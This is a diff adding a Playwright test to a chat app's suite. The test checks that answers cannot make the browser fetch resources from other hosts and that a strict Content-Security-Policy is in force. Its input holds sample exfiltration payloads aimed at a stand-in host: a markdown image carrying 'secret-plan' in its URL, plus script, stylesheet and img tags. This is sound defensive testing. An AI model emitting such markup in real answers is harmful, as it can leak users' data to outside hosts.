@@ -3,6 +3,9 @@ button, and hostile answers whose HTML, scripts and javascript: links never come
 
 from __future__ import annotations
 
+from urllib.parse import urlsplit
+
+import httpx
 import pytest
 from playwright.sync_api import expect
 
@@ -82,3 +85,36 @@ def test_safe_links_open_in_a_new_tab_without_access_to_this_page(page, app_serv
     expect(link).to_have_attribute("href", "https://example.com/docs")
     expect(link).to_have_attribute("target", "_blank")
     expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
+
+
+def test_an_answer_cannot_make_the_browser_load_anything_from_elsewhere(page, app_server):
+    """A markdown image would be fetched the moment it shows, carrying data in its address."""
+    sign_up(page, app_server.url)
+    own = urlsplit(app_server.url).netloc
+    elsewhere: list[str] = []  # requests to other hosts that the browser did not refuse to send
+    blocked: list[str] = []
+    page.on("request", lambda r: elsewhere.append(r.url) if urlsplit(r.url).netloc not in (own, "") else None)
+    page.on("requestfailed", lambda r: blocked.append(r.url) if r.failure == "csp" else None)
+    violations: list[str] = []
+    page.on("console", lambda m: violations.append(m.text) if "Content Security Policy" in m.text else None)
+    ask_and_wait(
+        page,
+        "Summarise ![chart](http://127.0.0.2:9/leak.png?q=secret-plan) and "
+        '<link rel="stylesheet" href="http://127.0.0.2:9/x.css"> <script src="http://127.0.0.2:9/x.js"></script> '
+        '<img src="http://127.0.0.2:9/y.png"> #fault:html',
+    )
+    answer = page.locator(ANSWER).last
+    link = answer.get_by_role("link", name="Image: chart")
+    expect(link).to_have_attribute("href", "http://127.0.0.2:9/leak.png?q=secret-plan")
+    expect(answer.locator("img")).to_have_count(0)
+    page.reload()
+    expect(page.locator(ANSWER).last.get_by_role("link", name="Image: chart")).to_be_visible()
+    # Even what the page itself might be tricked into loading: the policy allows this origin only.
+    page.evaluate("() => { const i = new Image(); i.src = 'http://127.0.0.2:9/probe.png'; document.body.append(i); }")
+    page.wait_for_timeout(500)
+    assert "http://127.0.0.2:9/probe.png" in blocked, "the Content-Security-Policy refused the probe"
+    assert [u for u in elsewhere if u not in blocked] == [], "nothing left for another host"
+    assert violations
+    policy = httpx.get(f"{app_server.url}/chat/", timeout=10).headers["content-security-policy"]
+    for rule in ("default-src 'self'", "img-src 'self' data: blob:", "connect-src 'self'", "object-src 'none'"):
+        assert rule in policy
